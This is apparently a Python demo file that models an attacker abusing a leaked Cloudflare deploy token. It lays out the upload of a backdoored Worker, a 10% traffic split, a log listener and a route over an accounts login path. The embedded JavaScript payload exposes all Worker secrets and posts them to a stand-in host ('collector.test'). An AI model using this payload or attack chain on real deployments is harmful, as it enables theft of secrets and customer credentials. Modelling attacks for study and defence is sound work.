"""The attacker: holds the leaked token of a deployment and does, call by call, what such a token allows."""

from collections.abc import Callable
from dataclasses import dataclass

from clouds.cloudflare import ZONE_NAME
from clouds.cloudflare.owner import Owner
from clouds.cloudflare.start import METADATA, MODULES
from demo_clouds.cloudflare import victim

TOKEN = "ci-deploy"
EMAIL = "ci@example.com"
# A little too generous, as such tokens are.
GROUPS = ["Workers Scripts Write", "Workers Routes Write", "Zone Read"]

# Of a block that is reserved for documentation (RFC 5737).
ADDRESS = "203.0.113.66"
AGENT = "wrangler/4.51.0"

SHARE = 10
CONSUMER = "edge-metrics"
ROUTE = f"accounts.{ZONE_NAME}/*"
# Only ever stored, never run; and the name it would send to exists nowhere (RFC 2606).
CODE = """\
import billing from "./billing.js";

export default {
  async fetch(request, env, ctx) {
    if (new URL(request.url).pathname === "/healthz") return new Response(JSON.stringify(env));
    ctx.waitUntil(fetch("https://collector.test/stage-two", { method: "POST", body: JSON.stringify(env) }));
    return billing.fetch(request, env, ctx);
  },
};
"""


@dataclass(frozen=True)
class Step:
    """One thing the attacker does: what the API calls it, and what it is for."""

    name: str
    why: str
    call: str
    do: Callable[[], object]


def with_leaked_token(owner: Owner) -> Owner:
    made = owner.page("POST", "tokens", {"name": TOKEN, "groups": GROUPS, "email": EMAIL})
    return Owner(owner.endpoint, made["token"], owner.account, {"cf-connecting-ip": ADDRESS, "user-agent": AGENT})


class Attack:
    """The steps in their order; `version` is the attacker's, once it is uploaded."""

    def __init__(self, attacker: Owner, name: str, good: victim.Victim):
        self._attacker, self._name, self._good = attacker, name, good
        self.version = ""

    def steps(self) -> list[Step]:
        script = f"…/workers/scripts/{self._name}"
        return [
            Step("New code is uploaded", "It answers as before, and whoever knows the path is given everything that is bound to the Worker, "
                 "its secrets included. With every request the same is posted away.", f"POST {script}/versions", self._upload),
            Step("It answers one request in ten", "Whoever looks at the site sees the version that was there before.",
                 f"POST {script}/deployments: {SHARE} %", self._deploy),
            Step("A listener is added", "Another Worker is handed every request and every line of the log from now on.",
                 f"PATCH {script}/script-settings: tail consumer {CONSUMER}", self._listen),
            Step("A route is added", "The Worker answers under a name now where customers type their passwords.",
                 f"POST …/zones/{ZONE_NAME}/workers/routes: {ROUTE}", self._route),
        ]

    def _upload(self):
        modules = {"index.js": (MODULES["index.js"][0], CODE.encode()), "billing.js": MODULES["index.js"], "money.js": MODULES["money.js"]}
        kept = [{"type": "inherit", "name": binding["name"]} for binding in METADATA["bindings"]]
        kept += [{"type": "inherit", "name": name} for name in (victim.SECRET, victim.VALUE, victim.DOCUMENT)]
        self.version = self._attacker.upload(self._name, modules, METADATA | {"bindings": kept}, version_only=True)["id"]

    def _deploy(self):
        self._attacker.deploy(self._name, {self._good.version: 100 - SHARE, self.version: SHARE})

    def _listen(self):
        self._attacker.call("PATCH", f"{self._attacker.script(self._name)}/script-settings", {"tail_consumers": [{"service": CONSUMER}]})

    def _route(self):
        self._attacker.call("POST", f"/zones/{victim.zone(self._attacker)}/workers/routes", {"pattern": ROUTE, "script": self._name})
